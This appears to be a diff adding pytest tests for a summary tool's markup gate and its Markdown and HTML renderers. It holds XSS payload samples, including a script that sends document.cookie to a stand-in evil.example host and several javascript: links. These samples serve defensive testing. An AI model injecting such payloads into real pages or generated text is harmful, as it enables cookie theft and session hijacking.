@@ -1,0 +1,91 @@
+"""Markup and links: the gate flags them, Markdown output strips them, HTML output escapes them."""
+
+import pytest
+
+from plainsum.checks.markup import check_markup, strip_markup
+from plainsum.render import to_html, to_markdown
+from plainsum.schemas import Draft, PlainSummary, Provenance, SourceInfo
+
+SOURCE = (
+    "We asked 40 adults with MS about sleep (p < 0.05). The data are at "
+    "https://example.org/ms-sleep-data and questions go to sleep@example.org."
+)
+BASE = {
+    "headline": "Poor sleep was common in adults with MS",
+    "what_the_study_did": "Researchers asked 40 adults with MS about their sleep.",
+    "why_it_matters": "Sleep may affect how people with MS feel. Talk to your care team.",
+    "limitations": "This study watched people; it cannot show cause and effect.",
+}
+PAYLOADS = {
+    "iframe": '<iframe src="https://evil.example/x"></iframe>',
+    "img_onerror": '<img src=x onerror="alert(document.cookie)">',
+    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "js_link": "[more](javascript:alert(1))",
+    "data_link": "[more](data:text/html;base64,PHNjcmlwdD4=)",
+    "invented_link": "[read more](https://evil.example/ms-cure)",
+    "image": "![x](https://evil.example/pixel.png)",
+    "reference": "[1]: javascript:alert(1)",
+    "comment": "<!-- hidden --> text",
+    "bare_url": "See https://evil.example/offer now.",
+}
+
+
+def summary_with(payload: str, section: str = "why_it_matters") -> PlainSummary:
+    values = dict(BASE)
+    values[section] = f"{values[section]} {payload}"
+    return PlainSummary(**values)
+
+
+@pytest.mark.parametrize("name", sorted(PAYLOADS))
+def test_the_gate_flags_every_payload(name):
+    findings = check_markup(summary_with(PAYLOADS[name]), SOURCE)
+    assert findings and all(f.check == "markup" and f.severity.value == "error" for f in findings)
+    assert all(f.section == "why_it_matters" for f in findings)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The result was significant (p < 0.05).",
+        "Lesions under <5 mm were counted; 3 > 2.",
+        "The data are at https://example.org/ms-sleep-data for anyone.",
+        "[the data](https://example.org/ms-sleep-data)",
+        "Write to mailto:sleep@example.org",
+    ],
+)
+def test_plain_text_and_the_papers_own_links_pass(text):
+    assert check_markup(summary_with(text), SOURCE) == []
+
+
+def _draft(summary: PlainSummary) -> Draft:
+    return Draft(
+        summary=summary,
+        findings=check_markup(summary, SOURCE),  # as the gate would find them
+        source=SourceInfo(title="<b>t</b>", sha256="0" * 64, chars=10),
+        provenance=Provenance(drafter="offline", prompt_version="x", plainsum_version="0"),
+        passed=False,
+    )
+
+
+@pytest.mark.parametrize("name", sorted(PAYLOADS))
+def test_markdown_output_carries_no_payload(name):
+    md = to_markdown(_draft(summary_with(PAYLOADS[name])))
+    lowered = md.lower()
+    for bad in ("<iframe", "<img", "<script", "onerror", "javascript:", "data:text", "](https://evil",
+                "<!--", "![x]"):  # fmt: skip
+        assert bad not in lowered, (name, md)
+
+
+@pytest.mark.parametrize("name", sorted(PAYLOADS))
+def test_html_output_escapes_every_payload(name):
+    page = to_html(_draft(summary_with(PAYLOADS[name])))
+    for bad in ("<iframe", "<img", "<script>fetch", 'href="javascript', "<!-- hidden"):
+        assert bad not in page, (name, bad)
+    assert "&lt;b&gt;t&lt;/b&gt;" in page  # the title, escaped
+
+
+def test_strip_markup_keeps_words_and_safe_links():
+    assert strip_markup("[more](javascript:alert(1)) and p < 0.05") == "more and p < 0.05"
+    assert strip_markup("[data](https://example.org/x)") == "[data](https://example.org/x)"
+    assert strip_markup("[data](https://example.org/x)", SOURCE) == "data"
+    assert strip_markup("a <b>bold</b> word") == "a bold word"
